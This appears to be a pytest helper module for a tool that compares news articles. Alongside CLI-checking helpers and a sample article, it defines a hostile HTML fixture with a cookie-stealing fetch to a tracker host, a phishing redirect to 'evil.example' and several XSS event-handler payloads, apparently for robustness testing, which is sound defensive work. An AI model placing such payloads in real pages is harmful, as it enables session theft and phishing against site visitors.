"""Shared checks for the robustness suite: run the command line in-process and check that a
report is right (every span slices to its text, the word runs rebuild both texts) or that
the failure is one clear line."""
from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from articlecompare.cli import main
from report_checks import check_fact, check_report, check_span  # noqa: F401 (shared)

ARTICLE = (
    "The city council voted 7-2 on Tuesday to close the Elm Street library by March 2025. "
    "Mayor Jane Ortiz said the branch cost $1.2 million a year to run.\n\n"
    "Residents objected strongly at the meeting, and 2,000 people signed a petition. "
    "“We will keep fighting,” said Ana Li, who organised it."
)


def run_compare(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str, str]:
    """``articlecompare compare ARGS``: (status, stdout, stderr)."""
    code = main(["compare", *map(str, args)])
    out, err = capsys.readouterr()
    return code, out, err


def compare_or_refuse(capsys: pytest.CaptureFixture[str], a: Path, b: Path) -> dict[str, Any] | str:
    """Compare ``a`` and ``b`` to JSON on stdout; the checked report, or the one error line."""
    code, out, err = run_compare(capsys, a, b, "-o", "-", "--format", "json")
    assert "Traceback" not in err and "Traceback" not in out
    if code == 2:
        assert out == ""
        assert_one_line(err)
        return err.strip()
    assert code == 0, err
    assert err == ""
    report = json.loads(out)
    check_report(report)
    return report


def assert_one_line(err: str) -> None:
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("articlecompare: ") and len(lines[0]) > len("articlecompare: ")


def no_changes(report: dict[str, Any]) -> bool:
    return not report["changes"] and all(run["op"] == "equal" for run in report["words"])


HOSTILE_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=https://evil.example/phish">
<title>Council closes library</title>
<link rel="stylesheet" href="https://cdn.example/site.css">
<link rel="preload" href="https://fonts.example/face.woff2" as="font">
<script src="https://tracker.example/t.js"></script>
<script>fetch("https://tracker.example/beacon?c=" + document.cookie)</script>
<style>@import url("https://cdn.example/more.css"); body { background: url(https://cdn.example/bg.png) }</style>
</head>
<body onload="alert('load')">
<nav><a href="https://example.com/">Home</a> <a href="javascript:alert('nav')">News</a></nav>
<article>
<h1>Council closes library</h1>
<p>The city council voted 7-2 on Tuesday to close the Elm Street library by March 2025.
<img src="https://images.example/photo.jpg" onerror="alert('img')" alt="The library">
Mayor Jane Ortiz said the branch cost $1.2 million a year to run.</p>
<p onclick="alert('p')">Residents objected strongly at the meeting, and 2,000 people signed
a petition. <a href="javascript:alert('link')">Read the petition</a>.</p>
<iframe src="https://ads.example/frame"></iframe>
<svg onload="alert('svg')"><image href="https://images.example/i.svg"/></svg>
<video src="https://media.example/v.mp4" poster="https://media.example/p.jpg"></video>
<p>“We will keep fighting,” said Ana Li, who organised it.
<img src="x" onerror="alert(document.domain)"></p>
</article>
<script>document.write('<img src="https://tracker.example/pixel.gif">')</script>
</body></html>
"""
